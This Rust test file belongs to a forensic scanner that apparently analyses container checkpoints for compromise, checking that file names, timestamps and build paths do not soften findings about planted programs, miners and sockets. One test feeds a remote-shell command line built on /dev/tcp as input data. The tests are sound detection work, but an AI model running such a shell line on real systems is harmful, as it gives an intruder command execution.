//! What makes a finding milder must be a fact, not a name or a time that the intruder may choose: the planted compromise and
//! forged changes, renamed as things that people excuse.

use std::fs;
use std::io::Cursor;
use std::sync::Arc;

use cryoscope::analysis::{Brought, Scan, Selection, Severity};
use cryoscope::images::proto::{FdinfoEntry, FileEntry, MemfdInodeEntry, MmEntry, TaskKobjIdsEntry};
use cryoscope::memory::Origin;
use cryoscope::model::ids::Pid;
use cryoscope::{Limits, Options, RootImage};
use prost::Message as _;

use crate::archives::Members;
use crate::fixtures;

const OLD: u64 = 1_000_000_000;
const NEW: u64 = 1_900_000_000;

/// A changed file.
#[derive(Clone, Copy)]
struct Changed<'c> {
    path: &'c str,
    mode: u32,
    uid: u64,
    mtime: u64,
    contents: &'c [u8],
    capabilities: Option<&'c [u8]>,
}

fn file(path: &str, mtime: u64) -> Changed<'_> {
    Changed { path, mode: 0o755, uid: 0, mtime, contents: ELF, capabilities: None }
}

/// The header of an ELF file for x86-64.
const ELF: &[u8] = &{
    let mut header = [0_u8; 64];
    let magic = *b"\x7fELF\x02\x01\x01";
    let mut at = 0;
    while at < magic.len() {
        header[at] = magic[at];
        at += 1;
    }
    header[16] = 2;
    header[18] = 62;
    header[20] = 1;
    header[52] = 64;
    header
};

fn set_changes(members: &mut Members, files: &[Changed<'_>]) {
    let mut tar = tar::Builder::new(Vec::new());
    for one in files {
        if let Some(value) = one.capabilities {
            tar.append_pax_extensions([("SCHILY.xattr.security.capability", value)]).unwrap();
        }
        let mut header = tar::Header::new_gnu();
        header.set_size(one.contents.len() as u64);
        header.set_mode(one.mode);
        header.set_uid(one.uid);
        header.set_gid(0);
        header.set_mtime(one.mtime);
        tar.append_data(&mut header, one.path.trim_start_matches('/'), one.contents).unwrap();
    }
    members.set("rootfs-diff.tar", tar.into_inner().unwrap());
    members.set("deleted.files", &b"[]"[..]);
}

/// Gives open and mapped files another path.
fn rename(members: &mut Members, from: &str, to: &str) {
    let mut found = false;
    members.parts("checkpoint/files.img", |image| {
        for (bytes, _) in &mut image.records {
            let mut entry = FileEntry::decode(bytes.as_slice()).unwrap();
            if let Some(file) = entry.reg.as_mut().filter(|file| file.name.as_deref() == Some(from.as_bytes())) {
                file.name = Some(to.as_bytes().to_vec());
                found = true;
                *bytes = entry.encode_to_vec();
            }
        }
    });
    assert!(found, "no file {from}");
}

fn scan(members: &Members, family: &str) -> Scan {
    let mut selection = Selection::default();
    selection.only = vec![family.to_owned()];
    Scan::run(&members.open(), &selection)
}

fn about_process(scan: &Scan, rule: &str, pid: u32) -> Option<Severity> {
    let is_it = |pids: &[Pid]| pids.contains(&Pid(pid));
    let found = scan.findings.iter().filter(|one| one.rule.id == rule);
    found.filter(|one| one.pid == Some(Pid(pid)) || is_it(&one.also_pids)).map(|one| one.severity).max()
}

fn about_path(scan: &Scan, rule: &str, path: &str) -> Option<Severity> {
    let found = scan.findings.iter().filter(|one| one.rule.id == rule && one.subject.text() == path);
    found.map(|one| one.severity).max()
}

fn reference() -> Members {
    Members::of(&fixtures::path("forms-reference/podman-runc.tar"))
}

fn compromise() -> Members {
    Members::of(&fixtures::archive_of("webapp-compromise"))
}

#[test]
fn an_old_time_alone_does_not_excuse_a_program_of_the_system() {
    let with = |files: &[Changed<'_>]| {
        let mut members = reference();
        set_changes(&mut members, files);
        scan(&members, "FS")
    };
    let pam = "/usr/lib/x86_64-linux-gnu/security/pam_x.so";
    let found = with(&[
        file("/usr/bin/ps", OLD),
        Changed { mode: 0o4755, ..file("/usr/bin/sudo", OLD) },
        file("/usr/lib/libx.so", OLD),
        file(pam, OLD),
        Changed { uid: 1000, ..file("/usr/sbin/sshd", OLD) },
        Changed { mode: 0o4700, ..file("/usr/sbin/su", OLD) },
        Changed { uid: 1000, ..file("/usr/libexec/liby.so", OLD) },
    ]);
    for (rule, path, expected) in [
        ("FS-009", "/usr/bin/ps", Some(Severity::Medium)),
        ("FS-010", "/usr/bin/sudo", Some(Severity::Medium)),
        ("FS-008", "/usr/lib/libx.so", Some(Severity::Medium)),
        ("FS-007", pam, Some(Severity::Medium)),
        // An entry point may have changed these.
        ("FS-009", "/usr/sbin/sshd", Some(Severity::Low)),
        ("FS-010", "/usr/sbin/su", Some(Severity::Low)),
        ("FS-008", "/usr/libexec/liby.so", None),
    ] {
        assert_eq!(about_path(&found, rule, path), expected, "{rule} {path}");
    }
    // Nobody replaces all of a directory: its owner was changed, and changed back.
    let names: Vec<String> = (0..20).map(|number| format!("/usr/bin/tool{number}")).collect();
    let mut all: Vec<Changed<'_>> = names.iter().map(|name| file(name, OLD)).collect();
    all.push(file("/usr/bin/ps", OLD));
    assert_eq!(about_path(&with(&all), "FS-009", "/usr/bin/ps"), Some(Severity::Low));
    // What runs was put there to run.
    let mut members = reference();
    rename(&mut members, "/tick", "/usr/bin/ps");
    set_changes(&mut members, &[file("/usr/bin/ps", OLD)]);
    assert_eq!(about_path(&scan(&members, "FS"), "FS-009", "/usr/bin/ps"), Some(Severity::High));
}

#[test]
fn the_name_of_a_build_tool_in_a_path_excuses_nothing() {
    const MINER: &str = "/tmp/.cache/.x/xmrig";
    for path in ["/tmp/npm-build/xmrig", "/tmp/_MEI123/xmrig", "/tmp/go-build1/xmrig", "/tmp/pip-x/xmrig"] {
        let mut members = compromise();
        rename(&mut members, MINER, path);
        set_changes(&mut members, &[file(path, NEW)]);
        assert_eq!(about_process(&scan(&members, "PROC"), "PROC-004", 21), Some(Severity::High), "{path}");
    }
    // A module of a package in a volume is no hidden program.
    let mut members = compromise();
    rename(&mut members, MINER, "/srv/app/node_modules/.pnpm/esbuild@1/bin/esbuild");
    assert_eq!(about_process(&scan(&members, "PROC"), "PROC-004", 21), None);
}

#[test]
fn hidden_directories_of_tools_are_no_hiding_places() {
    const LIBRARY: &str = "/tmp/.cache/.x/libhook.so";
    let of = |path: &str, has_changes: bool| {
        let mut members = compromise();
        rename(&mut members, LIBRARY, path);
        if !has_changes {
            members.remove("rootfs-diff.tar");
            members.remove("deleted.files");
        }
        about_process(&scan(&members, "MEM"), "MEM-007", 22)
    };
    for path in
        ["/app/node_modules/.pnpm/x/x.node", "/opt/.pyenv/lib/x.so", "/opt/numpy/.libs/x.so", "/opt/.conda/x.so"]
    {
        assert_eq!((of(path, true), of(path, false)), (None, None), "{path}");
    }
    // Whether it is of the image is known only with the changes.
    assert_eq!(of("/opt/.hid/x.so", true), None);
    assert_eq!(of("/opt/.hid/x.so", false), Some(Severity::Medium));
    assert_eq!(of("/tmp/_MEI12/x.so", true), Some(Severity::Medium), "nothing else is mapped from there");
    assert_eq!(of("/tmp/.hid/x.so", true), Some(Severity::High));
}

#[test]
fn names_of_temporary_files_excuse_only_what_a_compiler_writes() {
    let of = |runs: &str, path: &str| {
        let mut members = reference();
        rename(&mut members, "/tick", runs);
        set_changes(&mut members, &[file(path, NEW)]);
        about_path(&scan(&members, "FS"), "FS-008", path)
    };
    assert_eq!(of("/usr/bin/node", "/tmp/tmp.Xy12Ab34"), Some(Severity::High));
    assert_eq!(of("/usr/bin/python3.13", "/tmp/tmpab12_x9z/a.so"), Some(Severity::High));
    assert_eq!(of("/usr/bin/gcc-14", "/tmp/tmp.Xy12Ab34"), Some(Severity::High));
    for (runs, path) in
        [("/usr/bin/gcc-14", "/tmp/tmpab12_x9z/a.so"), ("/usr/local/go/bin/go", "/tmp/go-build1/b001/a")]
    {
        assert_eq!(of(runs, path), None, "{runs} {path}: low, and so told with its directory");
    }
    assert_eq!(
        of("/tmp/go-build1/b001/a", "/tmp/go-build1/b001/a"),
        Some(Severity::High),
        "it runs, and no compiler does"
    );
}

/// `cap_ipc_lock=ep`, as `setcap` writes it.
const IPC_LOCK: &[u8] = &[1, 0, 0, 2, 0, 0x40, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];

#[test]
fn programs_that_an_entry_point_gives_capabilities_were_not_put_there() {
    const PROGRAM: &str = "/tmp/.cache/.x/kw";
    let of = |changed: Changed<'_>| {
        let mut members = compromise();
        rename(&mut members, PROGRAM, changed.path);
        set_changes(&mut members, &[changed]);
        members.edit::<MmEntry>("checkpoint/mm-19.img", |_, mm| {
            let secure = mm.mm_saved_auxv.chunks_exact(2).position(|pair| pair[0] == 23).unwrap();
            mm.mm_saved_auxv[2 * secure + 1] = 1;
        });
        (about_process(&scan(&members, "PROC"), "PROC-012", 19), scan(&members, "FS"))
    };
    let vault = Changed { capabilities: Some(IPC_LOCK), ..file("/bin/vault", OLD) };
    let (severity, files) = of(vault);
    assert_eq!(severity, Some(Severity::Low));
    assert_eq!(about_path(&files, "FS-008", "/bin/vault"), None, "no more than low: {:?}", files.findings);
    assert_eq!(of(file("/bin/vault", NEW)).0, Some(Severity::High));
    assert_eq!(of(file("/bin/vault", OLD)).0, Some(Severity::High));
}

#[test]
fn a_program_that_an_upgrade_replaced_was_not_put_there() {
    const PROGRAM: &str = "/tmp/.cache/.x/kdevtmpfsi";
    let mut members = compromise();
    rename(&mut members, PROGRAM, "/usr/bin/sudo");
    let list = Changed { mode: 0o644, contents: b"/usr/bin/sudo\n", ..file("/var/lib/dpkg/info/sudo.list", NEW) };
    let status = Changed { mode: 0o644, contents: b"Package: sudo\n", ..file("/var/lib/dpkg/status", NEW) };
    members.edit::<MmEntry>("checkpoint/mm-15.img", |_, mm| {
        let secure = mm.mm_saved_auxv.chunks_exact(2).position(|pair| pair[0] == 23).unwrap();
        mm.mm_saved_auxv[2 * secure + 1] = 1;
    });
    set_changes(&mut members, &[Changed { mode: 0o4755, ..file("/usr/bin/sudo", NEW) }, list, status]);
    assert_eq!(about_process(&scan(&members, "PROC"), "PROC-012", 15), Some(Severity::Info), "root gains nothing");
    // Without the new file, it is gone.
    set_changes(&mut members, &[]);
    assert_eq!(about_process(&scan(&members, "PROC"), "PROC-012", 15), Some(Severity::High));
}

#[test]
fn the_name_of_a_runtimes_memfd_excuses_nothing() {
    for name in ["runc_cloned:/proc/self/exe", "libcrun-x"] {
        let mut members = compromise();
        members.edit::<MemfdInodeEntry>("checkpoint/memfd.img", |_, inode| inode.name = Some(name.into()));
        let scan = scan(&members, "MEM");
        assert_eq!(about_process(&scan, "MEM-006", 13), Some(Severity::Critical), "{name}");
    }
}

#[test]
fn the_image_tells_a_replaced_program_from_one_that_was_touched() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    fs::create_dir_all(root.join("usr/bin")).unwrap();
    // The program that runs, so that the image is that of the container.
    fs::write(root.join("tick"), vec![0; 8768]).unwrap();
    fs::write(root.join("usr/bin/ls"), ELF).unwrap();
    let other: Vec<u8> = ELF.iter().copied().chain([0]).collect();
    fs::write(root.join("usr/bin/ps"), other).unwrap();
    let mut members = reference();
    set_changes(&mut members, &[file("/usr/bin/ps", OLD), file("/usr/bin/ls", OLD)]);
    let image = RootImage::open(root, &Limits::default()).unwrap();
    let brought = Arc::new(Brought::default().with_root(image));
    let checkpoint = Options::new().bring(brought).open_reader(Cursor::new(members.tar())).unwrap().remove(0);
    let mut selection = Selection::default();
    selection.only = vec!["FS".to_owned()];
    let scan = Scan::run(&checkpoint, &selection);
    assert_eq!(about_path(&scan, "FS-009", "/usr/bin/ps"), Some(Severity::High));
    assert_eq!(about_path(&scan, "FS-009", "/usr/bin/ls"), None);
}

/// Gives a process other arguments.
fn set_arguments(members: &mut Members, pid: u32, argv: &[&str]) {
    let honest = members.open();
    let space = honest.memory().space_of(Pid(pid)).unwrap();
    let start = space.mm().entry.mm_arg_start();
    let bytes: Vec<u8> = argv.iter().flat_map(|word| [word.as_bytes(), b"\0"].concat()).collect();
    let end = start + bytes.len() as u64;
    let run = space.runs(start, end).next().unwrap();
    let Origin::Recorded { image, offset, .. } = run.origin else { panic!("the arguments are not recorded") };
    let (name, offset) = (image.to_string(), usize::try_from(offset).unwrap());
    let mut contents = members.get(&name).to_vec();
    contents[offset..offset + bytes.len()].copy_from_slice(&bytes);
    members.set(&name, contents);
    members.edit::<MmEntry>(&format!("checkpoint/mm-{pid}.img"), |_, mm| {
        mm.mm_arg_end = Some(end);
        mm.mm_env_start = Some(end);
    });
}

#[test]
fn a_shell_with_a_connection_of_its_own_is_excused_only_if_it_runs_no_answer() {
    const SHELL: u32 = 12;
    let with = |argv: &[&str], address: [u8; 4]| {
        let mut members = compromise();
        let mut table = 0;
        members.clone().parts(&format!("checkpoint/ids-{SHELL}.img"), |image| {
            table = TaskKobjIdsEntry::decode(image.records[0].0.as_slice()).unwrap().files_id();
        });
        // Of its three descriptors, one is left, with another number.
        let mut socket = 0;
        members.parts(&format!("checkpoint/fdinfo-{table}.img"), |image| {
            image.records.retain_mut(|(bytes, _)| {
                let mut entry = FdinfoEntry::decode(bytes.as_slice()).unwrap();
                let is_first = entry.fd == Some(0);
                (entry.fd, socket) = (Some(5), if is_first { entry.id() } else { socket });
                *bytes = entry.encode_to_vec();
                is_first
            });
        });
        members.edit::<FileEntry>("checkpoint/files.img", |_, file| {
            if let Some(connection) = file.isk.as_mut().filter(|one| one.id == Some(socket)) {
                connection.dst_addr = vec![u32::from_le_bytes(address)];
            }
        });
        set_arguments(&mut members, SHELL, argv);
        about_process(&scan(&members, "PROC"), "PROC-005", SHELL)
    };
    let (near, far) = ([10, 0, 0, 9], [8, 8, 8, 8]);
    let check = ["sh", "-c", "exec 5<>/dev/tcp/db/80; echo x >&5; cat <&5 | grep -q UP"];
    assert_eq!(with(&check, near), Some(Severity::Low));
    assert_eq!(with(&check, far), Some(Severity::Medium));
    let runs = ["sh", "-c", "exec 5<>/dev/tcp/db/80; while read l; do $l; done <&5"];
    assert!(with(&runs, near) >= Some(Severity::Medium));
    assert!(with(&runs, far) >= Some(Severity::High));
    // The script's name alone is nothing, as it is not open.
    assert!(with(&["sh", "/usr/local/bin/emit.sh"], near) >= Some(Severity::Medium));
    assert!(with(&["sh"], near) >= Some(Severity::High));
}

#[test]
fn a_missing_table_of_descriptors_alone_is_told_mildly() {
    let quality = |members: &Members| {
        let found = scan(members, "EVD");
        found.findings.into_iter().find(|one| one.rule.id == "EVD-001").map(|one| (one.severity, one.sentence))
    };
    // A process that closed all of its files has none.
    let mut members = compromise();
    members.remove("checkpoint/fdinfo-2.img");
    let (severity, sentence) = quality(&members).unwrap();
    assert_eq!(severity, Severity::Low);
    assert!(sentence.starts_with("A process had no open files, or their table is missing"), "{sentence}");
    members.remove("checkpoint/ids-9.img");
    assert!(quality(&members).is_some_and(|(severity, _)| severity == Severity::Medium));
}
